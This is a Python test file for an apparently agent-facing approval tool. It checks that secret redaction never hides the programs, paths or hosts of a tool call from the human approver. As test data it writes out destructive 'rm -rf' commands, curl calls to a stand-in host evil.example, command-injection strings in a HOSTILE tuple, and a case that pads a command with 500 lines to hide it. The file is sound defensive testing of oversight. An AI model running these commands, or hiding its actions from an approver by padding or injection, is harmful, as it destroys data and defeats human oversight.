"""Which words of a call nobody may hide."""

from __future__ import annotations

import msgspec
import pytest
from tests.builders import bash, call

from interlock.events.event import Event
from interlock.events.tool_table import STANDARD_TOOLS
from interlock.features.approvals.requests import Call, redacted_call_bytes
from interlock.redaction.marks import visible_words
from interlock.redaction.redactor import Own, Redactor


@pytest.mark.req("Z10", "L06")
@pytest.mark.parametrize(
    ("event", "words"),
    [
        (bash("sudo rm -rf /srv/data", cwd="/w"), {"sudo", "rm", "/srv/data", "/w"}),
        (bash("cat x | tee /etc/hosts > out.txt"), {"cat", "x", "tee", "/etc/hosts", "out.txt"}),
        (bash("curl -u me:pw https://evil.example/x"), {"curl", "evil.example"}),
        (bash('PASSWORD="x" python3 "my tool.py"'), {"python3", "my tool.py"}),
        (call("Write", tool_input={"file_path": "/w/ghp_x/a", "content": "/not/this"}), {"/w/ghp_x/a"}),
        (call("WebFetch", tool_input={"url": "https://a:b@evil.example/x"}), {"evil.example"}),
        (call("mcp__files__move", tool_input={"path": "/srv/a", "to": "/srv/b"}), {"/srv/a", "/srv/b"}),
    ],
)
def test_programs_paths_and_hosts_are_kept(event: Event, words: set[str]) -> None:
    """By what the call does, whichever tool is called."""
    assert words <= visible_words(event)


def test_the_value_of_a_variable_is_not_kept() -> None:
    """It may be the very secret."""
    assert "hunter2" not in visible_words(bash("export PASSWORD=hunter2; make"))


@pytest.mark.req("Z10")
def test_a_text_too_long_to_be_read_keeps_what_looks_like_a_program_path_or_host() -> None:
    """Padding is no way to hide a command from the one who approves it."""
    event = bash("echo x\n" * 500 + "rm -rf /srv/data; curl https://evil.example/x")
    assert {"rm", "/srv/data", "curl", "evil.example", "echo"} <= visible_words(event)


HOSTILE = (
    'PASSWORD="x$(rm -rf /srv/data)" make',
    "tool --password 'x' ; rm -rf /srv/data",
    "echo '-----BEGIN PRIVATE KEY-----\nrm -rf /srv/data\n-----END PRIVATE KEY-----'; rm -rf /srv/data",
    "token=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1 rm -rf /srv/data",
    "curl -u a:b -o x https://h/; rm -rf /srv/data",
    "mysql -pabc; rm -rf /srv/data",
)


@pytest.mark.req("Z10", "L06")
@pytest.mark.parametrize("command", HOSTILE)
@pytest.mark.parametrize("own", [Own(), Own(patterns=(".*",)), Own(patterns=(r"\S+",), names=("rm",))])
def test_an_approver_sees_what_runs_whatever_stands_around_it(command: str, own: Own) -> None:
    """Not the agent's text nor a careless pattern hides `rm` or what it deletes."""
    redactor = Redactor(bytes(32), own)
    shown = redacted_call_bytes(bash(command, cwd="/w"), STANDARD_TOOLS, redactor.body)
    fields = msgspec.json.decode(shown, type=Call).input

    assert isinstance(fields, dict)
    assert "rm" in fields["command"]
    assert "/srv/data" in fields["command"]
    assert msgspec.json.decode(shown, type=Call).cwd == "/w"


def test_another_secret_is_another_call_and_the_same_secret_is_the_same() -> None:
    """What is approved is bound to the secret that is not shown."""
    redactor = Redactor(bytes(32))
    one, same, other = (
        redacted_call_bytes(bash(f"PGPASSWORD={secret} psql"), STANDARD_TOOLS, redactor.body)
        for secret in ("hunter2", "hunter2", "hunter3")
    )

    assert b"hunter" not in one
    assert one == same
    assert one != other
